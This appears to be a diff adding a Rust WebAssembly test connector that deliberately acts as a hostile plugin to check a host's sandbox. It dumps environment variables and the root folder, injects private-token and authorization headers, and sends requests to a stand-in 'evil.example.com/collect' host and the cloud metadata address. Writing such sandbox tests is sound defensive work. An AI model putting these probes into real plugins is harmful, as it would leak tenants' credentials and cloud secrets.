@@ -1,0 +1,114 @@
+//! A hostile connector for the tests: it tries every way to get at the tenant's credential or out of
+//! its sandbox, and reports what happened as records (or as an error, when the host stops it).
+//!
+//! Objects (all at project scope, one record each):
+//! - `environment`: the environment variables, arguments and root folder the plugin can see;
+//! - `set_private_token` / `set_authorization`: builds request headers carrying a credential;
+//! - `fetch_foreign` / `fetch_metadata`: GETs another origin / the cloud metadata address;
+//! - `fetch_own`: GETs the tenant's own GitLab (`/api/v4/user`) and reports the status and the request
+//!   headers the plugin itself can see.
+
+wit_bindgen::generate!({
+    path: "../../../wit",
+    world: "dataflow:connector/connector",
+    generate_all,
+});
+
+use dataflow::connector::types::{
+    Connection, ConnectorError, FieldInfo, FieldType, ObjectInfo, ObjectSchema, Page, ReadRequest, ScopeKind,
+};
+use exports::dataflow::connector::source::Guest;
+use wasi::http::outgoing_handler;
+use wasi::http::types::{Fields, Method, OutgoingRequest, Scheme};
+
+const OBJECTS: [&str; 6] =
+    ["environment", "set_private_token", "set_authorization", "fetch_foreign", "fetch_metadata", "fetch_own"];
+
+struct Thief;
+
+export!(Thief);
+
+fn info(name: &str) -> ObjectInfo {
+    ObjectInfo {
+        name: name.into(),
+        label: name.into(),
+        scopes: vec![ScopeKind::Project],
+        primary_key: vec!["check".into()],
+        cursor_field: None,
+        readable: true,
+    }
+}
+
+impl Guest for Thief {
+    fn list_objects() -> Vec<ObjectInfo> {
+        OBJECTS.iter().map(|o| info(o)).collect()
+    }
+
+    fn describe_schema(object: String) -> Result<ObjectSchema, ConnectorError> {
+        if !OBJECTS.contains(&object.as_str()) {
+            return Err(ConnectorError::InvalidRequest(format!("unknown object '{object}'")));
+        }
+        let field = |name: &str| FieldInfo {
+            name: name.into(),
+            field_type: FieldType::String,
+            nullable: name != "check",
+            filter_operators: vec![],
+            filter_only: false,
+        };
+        Ok(ObjectSchema { object: info(&object), fields: vec![field("check"), field("outcome")] })
+    }
+
+    fn validate_request(_: Connection, request: ReadRequest) -> Result<(), ConnectorError> {
+        Self::describe_schema(request.object).map(drop)
+    }
+
+    fn read_page(connection: Connection, request: ReadRequest) -> Result<Page, ConnectorError> {
+        let outcome = match request.object.as_str() {
+            "environment" => {
+                let vars: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
+                let args: Vec<String> = std::env::args().collect();
+                let root =
+                    std::fs::read_dir("/").map(|d| d.count().to_string()).unwrap_or_else(|e| format!("denied: {e}"));
+                format!("vars={vars:?} args={args:?} root={root}")
+            }
+            "set_private_token" => try_header("private-token", b"stolen"),
+            "set_authorization" => try_header("authorization", b"Bearer stolen"),
+            "fetch_foreign" => fetch("https://evil.example.com/collect")?,
+            "fetch_metadata" => fetch("http://169.254.169.254/latest/meta-data/")?,
+            "fetch_own" => fetch(&format!("{}/api/v4/user", connection.base_url.trim_end_matches('/')))?,
+            other => return Err(ConnectorError::InvalidRequest(format!("unknown object '{other}'"))),
+        };
+        let record = format!("{{\"check\":{:?},\"outcome\":{:?}}}\n", request.object, outcome);
+        Ok(Page { records: record.into_bytes(), record_count: 1, next_page_token: None, high_watermark: None })
+    }
+}
+
+fn try_header(name: &str, value: &[u8]) -> String {
+    let fields = Fields::new();
+    let append = fields.append(name, value);
+    let from_list = Fields::from_list(&[(name.to_owned(), value.to_vec())]);
+    format!("append={append:?} from_list={:?}", from_list.map(|_| "accepted"))
+}
+
+fn fetch(url: &str) -> Result<String, ConnectorError> {
+    let (scheme, rest) = match url.strip_prefix("https://") {
+        Some(rest) => (Scheme::Https, rest),
+        None => (Scheme::Http, url.strip_prefix("http://").unwrap_or(url)),
+    };
+    let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
+    let headers = Fields::new();
+    let request = OutgoingRequest::new(headers);
+    let _ = request.set_method(&Method::Get);
+    let _ = request.set_scheme(Some(&scheme));
+    let _ = request.set_authority(Some(authority));
+    let _ = request.set_path_with_query(Some(path));
+    let seen: Vec<String> = request.headers().entries().iter().map(|(k, _)| k.clone()).collect();
+    let future =
+        outgoing_handler::handle(request, None).map_err(|e| ConnectorError::Transport(format!("GET {url}: {e:?}")))?;
+    future.subscribe().block();
+    match future.get() {
+        Some(Ok(Ok(response))) => Ok(format!("status={} headers_seen={seen:?}", response.status())),
+        Some(Ok(Err(code))) => Err(ConnectorError::Transport(format!("GET {url}: {code:?}"))),
+        _ => Err(ConnectorError::Transport(format!("GET {url}: no response"))),
+    }
+}
